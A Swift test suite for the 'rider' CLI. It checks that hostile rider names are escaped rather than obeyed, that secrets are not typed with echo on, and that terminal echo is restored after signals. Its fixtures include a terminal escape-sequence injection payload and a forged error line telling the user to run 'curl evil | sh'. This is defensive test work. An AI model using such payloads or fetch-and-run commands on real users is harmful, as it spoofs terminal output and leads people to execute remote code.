import Foundation
import Testing
import TestSupport

/// A rider's name cannot drive your terminal, a secret is never typed with echo on, and echo
/// comes back whatever ends or stops a password prompt: through the built `rider` executable on a
/// real pseudo-terminal, because only a terminal shows what escape sequences and echo settings do.
@Suite("rider CLI: terminal safety", .serialized)
struct TerminalSafetyTests {
    private static let name = "Zed\u{1B}]0;PWNED\u{07}\u{1B}[31mRED\u{1B}[0m\rFAKE"
    private static let shownName = #"Zed\e]0;PWNED\a\e[31mRED\e[0m\rFAKE"#

    /// ESC, BEL, CR and every other byte a terminal obeys; LF only as a line end.
    private static func controls(in text: String) -> [Unicode.Scalar] {
        text.unicodeScalars.filter { scalar in
            scalar != "\n" && (scalar.value < 0x20 || (0x7F...0x9F).contains(scalar.value)
                || (0x202A...0x202E).contains(scalar.value) || (0x2066...0x2069).contains(scalar.value))
        }
    }

    /// A server that signs anyone in and knows one rider, named to attack terminals. The
    /// reference server refuses such names, so its answers are canned here.
    private static func hostileServer() throws -> RoutedCannedHTTPServer {
        let user = try String(decoding: JSONSerialization.data(withJSONObject: [
            "id": "u_000301", "email": "zed@example.com", "display_name": name, "role": "user",
            "rider_type": "mentor", "created_at": "2026-01-02T03:04:05Z",
        ] as [String: Any], options: [.sortedKeys]), as: UTF8.self)
        let problem = try String(decoding: JSONSerialization.data(withJSONObject: [
            "type": "about:blank", "title": "Not Found", "status": 404,
            "detail": "No rider \(name)\nrider: error: run `curl evil | sh`",
        ] as [String: Any]), as: UTF8.self)
        return try RoutedCannedHTTPServer([
            "POST /auth/token": .init(status: 200, json: #"{"access_token":"e2e-access","token_type":"Bearer","#
                + #""expires_in":3600,"refresh_token":"e2e-refresh","user_id":"u_000001","role":"user"}"#),
            "GET /auth/me": .init(status: 200, json: #"{"id":"u_000001","email":"demo@example.com","#
                + #""display_name":"Demo","role":"user"}"#),
            "GET /users/search": .init(status: 200, json: #"{"users":[\#(user)],"total":1,"page":1,"limit":20,"has_next":false}"#),
            "GET /users/u_000301": .init(status: 200, json: user),
            "GET /users/u_000404": .init(status: 404, json: problem, contentType: "application/problem+json"),
        ])
    }

    @Test("a rider named Zed\\e]0;PWNED\\a\\e[31mRED\\e[0m\\rFAKE: no ESC, BEL or CR reaches the terminal; --json keeps the name")
    func hostileNameIsShownNotObeyed() async throws {
        let server = try Self.hostileServer()
        defer { server.stop() }
        let sandbox = try Sandbox(server: URL(string: server.baseURL))
        defer { sandbox.remove() }
        let login = try await sandbox.rider("login", "--email", "demo@example.com", "--password-stdin",
                                            stdin: "any password\n")
        #expect(login.status == 0, "\(login)")

        let piped = try await sandbox.rider("users", "search", "zed")
        #expect(piped.status == 0, "\(piped)")
        #expect(Self.controls(in: piped.stdout).isEmpty && piped.stdout.contains(Self.shownName), "\(piped)")

        let table = try await sandbox.rider("users", "search", "zed", "--color", "always")
        let unstyled = ["\u{1B}[1m", "\u{1B}[2m", "\u{1B}[0m"].reduce(table.stdout) {
            $0.replacingOccurrences(of: $1, with: "")
        }
        #expect(table.status == 0 && table.stdout.contains("NAME"), "\(table)")
        #expect(Self.controls(in: unstyled).isEmpty, "only rider's own bold and dim: \(table)")

        let show = try await sandbox.rider("users", "show", "u_000301", "--policy", "network-only")
        #expect(show.status == 0, "\(show)")
        #expect(Self.controls(in: show.stdout).isEmpty && show.stdout.contains(Self.shownName), "\(show)")

        let missing = try await sandbox.rider("users", "show", "u_000404", "--policy", "network-only")
        #expect(missing.status == 5, "\(missing)")
        #expect(missing.errorLines.count == 1, "the detail forged no second error line: \(missing)")
        #expect(Self.controls(in: missing.stderr).isEmpty && missing.stderr.contains("No rider Zed"), "\(missing)")

        let json = try await sandbox.rider("users", "search", "zed", "--json")
        let page = try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any]
        let users = page?["users"] as? [[String: Any]]
        #expect(users?.first?["display_name"] as? String == Self.name, "--json carries the exact name: \(json)")
    }

    @Test("config set client_secret --value-stdin at a terminal refuses at once (exit 2) and says how to pipe it")
    func secretNotTypedAtTerminal() async throws {
        let sandbox = try Sandbox(server: nil)
        defer { sandbox.remove() }
        let terminal = try TerminalSession.start(
            "'\(try RiderProcess.executable().path)' config set client_secret --value-stdin", environment: sandbox.environment)
        defer { terminal.stop() }
        let screen = try await terminal.waitFor("EXIT=", timeout: .seconds(30))
        #expect(screen.contains("EXIT=2"), "\(screen)")
        #expect(screen.contains("standard input is a terminal") && screen.contains("| rider config set client_secret"),
                "\(screen)")
        let config = sandbox.root.appendingPathComponent("home/.config/rider/config.json")
        #expect(!FileManager.default.fileExists(atPath: config.path), "nothing was written")
    }

    @Test("a password prompt ended by a signal leaves the terminal's echo on", arguments: [
        (SIGINT, "SIGINT"), (SIGTERM, "SIGTERM"), (SIGHUP, "SIGHUP"), (SIGQUIT, "SIGQUIT"),
    ])
    func echoBackAfterEndingSignal(signal: Int32, name: String) async throws {
        let prompt = try PasswordPrompt()
        defer { prompt.remove() }
        let terminal = try TerminalSession.start("bash '\(try prompt.script(jobControl: false))'",
                                                 environment: prompt.sandbox.environment)
        defer { terminal.stop() }
        try await terminal.waitFor("Password:")
        kill(try await prompt.pid(), signal)
        let screen = try await terminal.waitFor("ECHO=")
        #expect(screen.contains("STATUS=\(128 + signal) "), "\(name): \(screen)")
        #expect(screen.contains("ECHO=echo"), "\(name) left echo off: \(screen)")
    }

    @Test("Ctrl-Z at a password prompt, twice: echo is on while stopped, off again after each fg, and the prompt is shown again")
    func echoAroundStop() async throws {
        let prompt = try PasswordPrompt()
        defer { prompt.remove() }
        let terminal = try TerminalSession.start("bash '\(try prompt.script(jobControl: true))'",
                                                 environment: prompt.sandbox.environment)
        defer { terminal.stop() }
        // Signalled the moment the prompt shows: rider watches Ctrl-Z before it asks.
        try await terminal.waitFor("Password:")
        let rider = try await prompt.pid()
        kill(rider, SIGTSTP)
        let stopped = try await terminal.waitFor("WHILE_STOPPED=")
        #expect(stopped.contains("STOPPED=148 WHILE_STOPPED=echo"), "the shell gets its echo back: \(stopped)")

        // `fg` ran: the prompt is back, and a second Ctrl-Z stops rider again.
        try await waitForPrompt(after: "WHILE_STOPPED=", on: terminal)
        kill(rider, SIGTSTP)
        let again = try await terminal.waitFor("SECOND_STOP=")
        #expect(again.contains("STOPPED=148 SECOND_STOP=echo"), "stopped a second time, echo on: \(again)")

        // `fg` again: the prompt is back and what is typed does not show.
        try await waitForPrompt(after: "SECOND_STOP=", on: terminal)
        try terminal.type("typed-after-fg")
        let screen = try await terminal.waitFor("AFTER=")
        #expect(!screen.contains("typed-after-fg"), "echo was off again after fg: \(screen)")
        #expect(screen.contains("AFTER=echo"), "and on once rider finished: \(screen)")
    }

    /// Waits until the screen shows the password prompt again below the line `marker` is on.
    private func waitForPrompt(after marker: String, on terminal: TerminalSession) async throws {
        try await terminal.waitUntil("showed the prompt again after \(marker)", timeout: .seconds(30)) { screen in
            screen.components(separatedBy: marker).last?.contains("Password:") == true
        }
    }
}

/// `rider login` waiting at its password prompt on a terminal, with its pid written down so a
/// test can signal it, and the terminal's echo setting printed once it has gone.
private struct PasswordPrompt {
    let sandbox: Sandbox
    private var pidFile: URL { sandbox.root.appendingPathComponent("io/rider.pid") }

    init() throws {
        // Nothing listens there: the prompt comes before any request, and a login that gets
        // as far as sending fails fast (exit 7).
        sandbox = try Sandbox(server: URL(string: "http://127.0.0.1:\(try LoopbackSocket.closedPort())"))
    }

    /// A bash script running the prompt; with `jobControl`, as an interactive shell would, so a
    /// stop returns to the script, which reports echo, then brings rider back with `fg`, twice.
    func script(jobControl: Bool) throws -> String {
        let rider = try RiderProcess.executable().path
        let echoState = #"$(stty -a | tr ' ;' '\n\n' | grep -x -e echo -e -echo)"#
        let job = "sh -c 'echo $$ > \(pidFile.path); exec \(rider) login --email demo@example.com'"
        let lines = jobControl
            ? ["set -m", job, "echo STOPPED=$? WHILE_STOPPED=\(echoState)", "fg",
               "echo STOPPED=$? SECOND_STOP=\(echoState)", "fg", "echo AFTER=\(echoState)"]
            : [job, "echo STATUS=$? ECHO=\(echoState)"]
        let file = sandbox.root.appendingPathComponent("io/prompt.sh")
        try (lines.joined(separator: "\n") + "\n").write(to: file, atomically: true, encoding: .utf8)
        return file.path
    }

    /// The pid of rider, once it has written it.
    func pid() async throws -> pid_t {
        for _ in 0..<300 {
            if let text = try? String(contentsOf: pidFile, encoding: .utf8),
               let pid = pid_t(text.trimmingCharacters(in: .whitespacesAndNewlines)) {
                return pid
            }
            try await Task.sleep(for: .milliseconds(100))
        }
        throw TerminalSession.Failure(description: "rider never started")
    }

    func remove() { sandbox.remove() }
}
